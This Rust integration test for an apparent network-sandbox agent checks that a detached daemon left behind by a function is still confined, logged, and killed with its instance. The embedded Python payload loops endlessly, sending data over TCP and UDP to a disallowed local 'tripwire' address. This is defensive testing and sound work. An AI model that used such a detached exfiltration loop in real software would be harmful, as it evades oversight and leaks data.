//! Processes that stay when their invocation has ended: the walls stay with them.
use std::net::SocketAddr;

use dshield_common::log::entry::{Event, Lifecycle, Phase};
use dshield_tests::agent::{Agent, Egress, Log, Project};
use dshield_tests::requires::{require_root, requires};
use dshield_tests::script::{self, run_with};
use dshield_tests::standin::{NAME, Standin};
use dshield_tests::tripwire::Tripwire;
use dshield_tests::wait;
use serde_json::json;

/// Leaves a daemon behind, away from its session, which asks an allowed host and tries to reach another address
/// again and again.
const DAEMON: &str = r#"
import subprocess
CHILD = '''
import socket, ssl, sys, time
sys.path.insert(0, "/var/task")
sys.dont_write_bytecode = True
from app import ask, secure
host, tripwire, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
while True:
    for action in (
        lambda: ask(secure(host), "POST", "/echo/lingering", host, body="after the invocation"),
        lambda: socket.create_connection((tripwire, port), timeout=5).sendall(b"the data"),
        lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"the data", (tripwire, port)),
    ):
        try:
            action()
        except OSError:
            pass
    time.sleep(0.05)
'''
line = ['/usr/bin/python3', '-c', CHILD, event['host'], *event['tripwire']]
subprocess.Popen(line, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, start_new_session=True)
answer = 'left it behind'
"#;

/// Where a daemon of a function goes on after the answer, as on other platforms until the sandbox is frozen.
#[test]
fn a_process_that_outlives_its_invocation_is_held_and_logged_as_before_and_ends_with_the_instance() {
    if !require_root() || !requires("python3") {
        return;
    }
    let (standin, tripwire) = (Standin::start(), Tripwire::start());
    let project = Project::new().with(&script::function("f").egress(&Egress::to_standin(&standin)));
    let mut agent = Agent::start(&project);
    let address: SocketAddr = tripwire.tcp();
    let target = [address.ip().to_string(), address.port().to_string()];
    let event = json!({"host": NAME, "tripwire": target});
    assert_eq!(run_with(&agent, "f", DAEMON, event), "left it behind");

    // What it is allowed is in the log, as the instance's, and as no invocation's.
    let after = |log: &Log| {
        let mut lines = log.lines.iter().map(|line| &line.entry.record);
        lines.any(|record| {
            matches!(record.event, Event::Request(_))
                && record.subject.instance.as_deref() == Some("f-0")
                && record.subject.request_id.is_none()
        })
    };
    agent.log_with("a request of no invocation", after);
    let refused = |log: &Log| {
        let refused = log.refused("f");
        ["address_not_allowed", "udp_port"].iter().all(|reason| refused.iter().any(|r| r.reason == *reason))
    };
    let log = agent.log_with("both refusals", refused);
    assert_eq!(log.verify(), Ok(()));
    assert!(tripwire.arrivals().is_empty(), "{:?}", tripwire.arrivals());

    let function = log.events().find_map(|(_, event)| match event {
        Event::Function(Lifecycle { phase: Phase::Begin, pid, .. }) => Some(*pid),
        _ => None,
    });
    let function = i32::try_from(function.expect("an instance was started")).expect("process ids are positive");
    let all = agent.leftovers().processes();
    assert!(all.len() >= 2, "the function and its daemon: {all:?}");
    // The function's first process ends: so does its daemon, though it has a session of its own.
    nix::sys::signal::kill(nix::unistd::Pid::from_raw(function), nix::sys::signal::Signal::SIGKILL).expect("it runs");
    wait::until("the daemon's end", || agent.leftovers().processes().is_empty().then_some(()));
    assert_eq!(agent.stop(), Some(0));
    assert_eq!(agent.leftovers().found(), Vec::<String>::new());
}
